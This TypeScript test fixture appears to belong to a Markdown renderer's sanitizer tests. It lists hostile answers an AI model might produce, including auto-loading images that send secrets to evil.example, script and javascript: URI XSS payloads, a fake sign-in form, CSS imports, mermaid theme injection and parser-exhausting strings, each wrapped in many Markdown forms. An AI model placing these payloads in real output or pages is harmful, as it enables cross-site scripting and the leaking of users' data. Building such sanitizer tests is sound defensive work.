/** Answers with which a model could try to run code in the page, to load something from elsewhere, or to deceive. */

const evil = 'https://evil.example'

export const attacks: readonly string[] = [
  // Images and other elements that load by themselves (EchoLeak, CVE-2025-32711).
  `![a](${evil}/p.png?secret)`,
  `![a][b]\n\n[b]: ${evil}/reference.png "title"`,
  `[![nested](${evil}/n.png)](${evil})`,
  `<img src=${evil}/x.png onerror=alert(1)>`,
  `<img srcset="${evil}/s.png 1x" alt=a>`,
  `<picture><source srcset=${evil}/p.webp><img src=x></picture>`,
  `<video src=${evil}/v.mp4 poster=${evil}/p.png autoplay></video><audio src=${evil}/a.mp3 autoplay></audio>`,
  `<object data=${evil}/o.swf></object><embed src=${evil}/e.swf>`,
  `<iframe src=${evil}></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<link rel=stylesheet href=${evil}/c.css><link rel=prefetch href=${evil}/pre><link rel=dns-prefetch href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<style>@import url(${evil}/i.css); *{background:url(${evil}/b.png)}</style>`,
  `<div style="background:url(${evil}/d.png)">x</div>`,
  `<table background=${evil}/t.png><tr><td>x</td></tr></table>`,
  `<input type=image src=${evil}/i.png>`,
  `<svg><image href=${evil}/svg.png /><use href=${evil}/u.svg#x /></svg>`,
  `<math><mtext><img src=${evil}/m.png></mtext></math>`,
  // Scripts.
  '<script>alert(1)</script>',
  `<script src=${evil}/x.js></script>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#115;cript:alert(1))',
  '[click](java\tscript:alert(1)) [click](&#1;javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1)) [file](file:///etc/passwd) [blob](blob:https://talaria.test/1)',
  '<javascript:alert(1)> <data:text/html,x>',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)',
  '![b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  // Elements that change the page around them.
  `<base href=${evil}>`,
  `<form action=${evil}><input name=key><button>Sign in again</button></form>`,
  '</div></div></div></main><h1>Outside</h1>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div id=app></div><img name=cookie><form id=location></form>',
  // Fences and code that try to leave their block.
  '```html\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(2)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '~~~\n<script>alert(1)</script>',
  // Text that deceives, or exhausts the reader of Markdown.
  `[https://bank.example](${evil}/login) [a](https://user:pass@evil.example/) \u202Egnp.exe`,
  `${'> '.repeat(2_000)}deep`,
  `${'['.repeat(2_000)}${']('.repeat(2_000)}`,
  `${'*_'.repeat(2_000)}x`,
  `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n|${'<img src=x onerror=alert(1)>|'.repeat(20)}`,
]

/** Forms of Markdown with a place for a text. */
const carriers: readonly ((text: string) => string)[] = [
  (text) => `<details open><summary>${text}</summary>\n\n${text}\n\n</details>`,
  (text) => `$$\\text{${text}}$$ and \\(${text}\\)`,
  (text) => `\\[\\href{${text}}{x} \\class{${text}}{y} \\style{background:url(${text})}{z}\\]`,
  (text) => `a[^1]\n\n[^1]: ${text}`,
  (text) => `<kbd>${text}</kbd><sub ${text}>b</sub><mark>${text}`,
  (text) => `|a|\n|-|\n|${text.replaceAll('|', '')}|`,
  (text) => `\`\`\`${text.replaceAll(/[`\n]/g, '')}\ncode\n\`\`\``,
  (text) =>
    `\`\`\`mermaid\ngraph TD\n  A["${text.replaceAll(/["`\n]/g, '')}"] --> B\n  click A "${text.replaceAll(/["`\n]/g, '')}"\n  style B fill:url(${evil}/f.svg)\n\`\`\``,
  (text) =>
    `【${text.replaceAll('\n', '')}】 [1](${text.replaceAll(/[\s()]/g, '')}) [a](https://a.example "${text.replaceAll(/["\n]/g, '')}")`,
  (text) => `- a\n\n  ${text}\n- <br>${text}`,
  (text) => `> ${text}\n\n# ${text}`,
  (text) => `\`\`\`svg\n${text}\n\`\`\`\n![${text}](${evil}/a.svg)`,
]
const contents: readonly string[] = [
  ...attacks.filter((attack) => attack.length < 200 && !attack.includes('```')).slice(0, 32),
  '</summary><script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)//https://a.example',
  '}\\includegraphics{https://evil.example/i.png}',
  '"]-->C[<img src=x onerror=alert(1)>]',
  '%%{init: {"themeCSS": "@import url(https://evil.example/t.css)"}}%%',
]

/** More than 400 texts: each attack in each form. */
export const formedAttacks = contents.flatMap((content) => carriers.map((carry) => carry(content)))
